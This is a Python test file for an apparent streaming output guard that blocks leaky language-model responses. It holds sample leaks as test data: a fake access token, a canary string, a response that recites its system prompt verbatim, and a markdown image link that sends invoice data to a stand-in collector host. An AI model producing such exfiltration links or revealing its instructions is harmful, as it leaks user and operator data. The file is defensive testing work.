from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.guard import Context, Guard, StreamGuard

SECRET = "ghp_" + "a1B2" * 9
TEXT = "Here is a long and harmless answer about gardening. " * 10 + f"Token: {SECRET} bye."


def _run(sg: StreamGuard, pieces: list[str]) -> tuple[str, bool]:
    sent = []
    for piece in pieces:
        update = sg.feed(piece)
        if update.blocked is not None:
            return "".join(sent), True
        sent.append(update.release)
    end = sg.finish()
    if end.blocked is not None:
        return "".join(sent), True
    return "".join(sent) + end.release, False


def _split(text: str, sizes: list[int]) -> list[str]:
    """``text`` in pieces of the given sizes, the rest (maybe empty) as the last piece."""
    pieces, at = [], 0
    for n in sizes:
        if at >= len(text):
            break
        pieces.append(text[at : at + n])
        at += n
    pieces.append(text[at:])
    return pieces


@settings(max_examples=40, deadline=None)
@given(st.lists(st.integers(1, 40), min_size=1, max_size=200))
def test_secret_split_anywhere_never_leaks(sizes: list[int]) -> None:
    sent, blocked = _run(Guard.default().stream(), _split(TEXT, sizes))
    assert blocked
    assert SECRET[:8] not in sent
    assert TEXT.startswith(sent)


def test_clean_stream_is_released_whole() -> None:
    clean = "Water boils at 100 degrees Celsius at sea level. " * 20
    pieces = [clean[i : i + 5] for i in range(0, len(clean), 5)]
    assert _run(Guard.default().stream(), pieces) == (clean, False)


SYSTEM = (
    "You are Ledgerly, the billing assistant of Northwind Traders. Answer questions about "
    "invoices, refunds and payment plans politely, and never discuss internal pricing rules."
)
CANARY = "bst-canary-0123456789abcdef"
LEAKS = {
    # what a response leaks, and the text of it that must never reach the client
    "secret": (f"Sure, the deploy token is {SECRET} as requested.", SECRET[:8]),
    "canary": (f"My instructions begin with {CANARY} and then go on.", CANARY[11:]),
    "prompt-overlap": (
        "Of course! My instructions say: you are Ledgerly, the billing assistant of "
        "Northwind Traders. Answer questions about invoices, refunds and payment plans "
        "politely, and never discuss internal pricing rules.",
        "Ledgerly",  # the third of the eight words the overlap needs
    ),
    "markdown-image": (
        "Here is your chart: ![chart](https://collector.example.net/p.png?d=invoice-4471) enjoy.",
        "collector.example.net",
    ),
}


@settings(max_examples=40, deadline=None)
@given(
    kind=st.sampled_from(sorted(LEAKS)),
    sizes=st.lists(st.integers(1, 12), min_size=1, max_size=200),
    lead=st.integers(0, 400),
)
def test_each_blocking_output_rule_cuts_its_leak_at_the_default_holdback(
    kind: str, sizes: list[int], lead: int
) -> None:
    # Every blocking output rule of the default policy must see its leak whole within
    # the default stream_holdback, however the response is split and whatever precedes
    # it: lowering the holdback below what a rule needs fails here.
    leak, never = LEAKS[kind]
    text = (
        "Happy to help with that question about gardening and soil. "[: lead % 60]
        * (1 + lead // 60)
        + leak
    )
    ctx = Context(system_prompt=SYSTEM + f" {CANARY}", canary=CANARY)
    sent, blocked = _run(Guard.default().stream(ctx), _split(text, sizes))
    assert blocked, kind
    assert never not in sent
    assert text.startswith(sent)


def test_holdback_comes_from_the_policy_and_delays_the_first_release() -> None:
    clean = "Water boils at 100 degrees Celsius at sea level. " * 20
    guard = Guard.default()
    assert guard.policy.stream_holdback == 128
    sg = guard.stream()
    released = ""
    fed = 0
    for i in range(0, len(clean), 4):
        released += sg.feed(clean[i : i + 4]).release
        fed = i + 4
        assert len(released) <= max(0, fed - 128)  # never closer than the holdback to the end
        if released:
            break
    assert released
    assert fed - len(released) < 128 + sg.check_every + 4
